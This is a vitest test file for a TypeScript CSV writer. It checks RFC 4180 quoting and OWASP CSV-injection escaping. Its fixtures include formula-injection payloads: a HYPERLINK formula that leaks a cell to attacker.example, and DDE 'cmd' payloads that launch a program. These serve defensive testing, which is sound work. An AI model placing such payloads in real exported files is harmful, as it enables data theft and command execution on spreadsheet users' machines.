/**
 * CSV writing against the rules of RFC 4180 and OWASP's CSV injection guidance, read back
 * with an independent parser (csv-parse) and compared with literal cells.
 */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvField, objectsToCsv, toCsv } from '../../src/lib/csv';

/** Rows of a CSV document, as a spreadsheet-agnostic RFC 4180 reader sees them. */
const read = (csv: string): string[][] => parse(csv, { record_delimiter: '\r\n', relax_column_count: false });

describe('toCsv', () => {
  it('writes a header and rows with CRLF line ends, quoting only where needed', () => {
    const csv = toCsv(
      ['id', 'note', 'count', 'done'],
      [
        ['e2ee', 'Keys, rotated', 3, false],
        ['bounty', 'He said "fine"', 0, true],
        ['multi', 'line one\nline two', null, undefined],
      ],
    );
    expect(csv).toBe(
      'id,note,count,done\r\n' + 'e2ee,"Keys, rotated",3,false\r\n' + 'bounty,"He said ""fine""",0,true\r\n' + 'multi,"line one\nline two",,\r\n',
    );
  });

  it('quotes leading and trailing spaces so that they survive', () => {
    expect(csvField(' padded ')).toBe('" padded "');
    expect(csvField('naïve café 🚀')).toBe('naïve café 🚀');
  });

  it('refuses a row whose length differs from the header', () => {
    expect(() => toCsv(['a', 'b'], [['1']])).toThrow(/row 1 has 1 cells but the header has 2/);
  });

  it('writes objects by named columns', () => {
    expect(objectsToCsv([['name', (p: { n: string }) => p.n]], [{ n: 'x' }])).toBe('name\r\nx\r\n');
  });

  it('reads back, with csv-parse, exactly what it wrote', () => {
    const rows = [
      ['id', 'text'],
      ['1', 'Ampersands & <angle> "quotes", commas\r\nand lines'],
      ['2', ' edge '],
    ];
    expect(read(toCsv(rows[0]!, rows.slice(1)))).toEqual(rows);
  });
});

describe('formulas (OWASP CSV injection)', () => {
  const header = ['case', 'value'];
  const cases: [string, string][] = [
    ['equals', '=HYPERLINK("https://attacker.example/?leak="&A1,"Details")'],
    ['plus', "+1+cmd|' /C calc'!A0"],
    ['minus', "-2+3+cmd|' /C calc'!A0"],
    ['at', "@SUM(1+1)*cmd|' /C calc'!A0"],
    ['tab', '\t=1+1'],
    ['carriage return', '\r=1+1'],
  ];

  it('puts a single quote before text that starts with = + - @ tab or CR, and quotes the cell', () => {
    const csv = toCsv(header, cases);
    expect(csv.split('\r\n').slice(1, 5)).toEqual([
      `equals,"'=HYPERLINK(""https://attacker.example/?leak=""&A1,""Details"")"`,
      `plus,"'+1+cmd|' /C calc'!A0"`,
      `minus,"'-2+3+cmd|' /C calc'!A0"`,
      `at,"'@SUM(1+1)*cmd|' /C calc'!A0"`,
    ]);
    expect(read(csv)).toEqual([
      header,
      ['equals', `'=HYPERLINK("https://attacker.example/?leak="&A1,"Details")`],
      ['plus', `'+1+cmd|' /C calc'!A0`],
      ['minus', `'-2+3+cmd|' /C calc'!A0`],
      ['at', `'@SUM(1+1)*cmd|' /C calc'!A0`],
      ['tab', `'\t=1+1`],
      ['carriage return', `'\r=1+1`],
    ]);
  });

  it('leaves numbers as numbers, negative ones too, but not text that looks like a number', () => {
    const csv = toCsv(['longitude', 'count', 'text'], [[-122.99, -5, '-5']]);
    expect(csv).toBe(`longitude,count,text\r\n-122.99,-5,"'-5"\r\n`);
    expect(read(csv)).toEqual([
      ['longitude', 'count', 'text'],
      ['-122.99', '-5', "'-5"],
    ]);
  });

  it('leaves text that only contains those characters later on as it is', () => {
    expect(read(toCsv(['a'], [['1+1=2 @ noon - fine']]))).toEqual([['a'], ['1+1=2 @ noon - fine']]);
    expect(csvField('2026-09-01')).toBe('2026-09-01');
  });
});
